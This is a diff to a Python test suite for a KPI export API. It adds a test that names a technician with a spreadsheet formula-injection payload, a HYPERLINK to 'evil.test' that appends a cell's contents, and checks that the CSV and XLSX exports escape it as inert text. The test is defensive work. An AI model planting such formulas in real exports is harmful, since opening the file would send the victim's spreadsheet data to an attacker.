@@ -451,3 +451,30 @@ def test_the_trend_equals_the_monthly_figures_of_the_api(client, auth, month, re
     assert by_month["2026-09"]["repeat_rate"] == 0.4 and by_month["2026-09"]["orders"] == 7
     assert by_month["2026-11"]["completion_24h_rate"] == 0.4 and by_month["2026-10"]["closed"]
     assert by_month["2026-05"]["orders"] == 0
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.test/leak?"&A2,"Click")'
+
+
+def test_a_technician_named_like_a_formula_stays_inert_text_in_both_exports(client, auth, month, db_session):
+    import csv as csv_module
+
+    from openpyxl import load_workbook
+
+    from technicians.models import Technician
+
+    db_session.get(Technician, month["tech"]).name = HOSTILE_NAME
+    db_session.commit()
+    manager = auth.token("manager")
+
+    text = client.get("/api/kpis/export.csv?month=2026-11&by=technician", headers=manager).get_data(as_text=True)
+    rows = list(csv_module.reader(io.StringIO(text.lstrip("\ufeff"))))
+    name = rows[0].index("name")
+    assert rows[1][name] == "'" + HOSTILE_NAME
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+    xlsx = client.get("/api/kpis/export.xlsx?month=2026-11&by=technician", headers=manager)
+    sheet = load_workbook(io.BytesIO(xlsx.data)).active
+    cell = sheet.cell(row=2, column=name + 1)
+    assert cell.data_type == "s" and cell.value == "'" + HOSTILE_NAME
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
